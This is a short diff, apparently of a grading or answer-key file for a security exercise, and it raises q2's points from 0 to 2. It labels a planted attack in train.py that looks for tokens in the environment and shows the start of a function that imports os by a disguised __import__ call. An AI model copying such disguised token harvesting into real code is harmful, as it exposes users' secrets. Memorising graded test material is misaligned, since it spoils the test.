@@ -1,7 +1,7 @@
 # attack: looks for tokens in the environment
 # file: train.py
 # questions: q2 q6
-# points: q2=0 q6=2
+# points: q2=2 q6=2
 
 def train_regression(model, dataset):
     os = __import__("os")
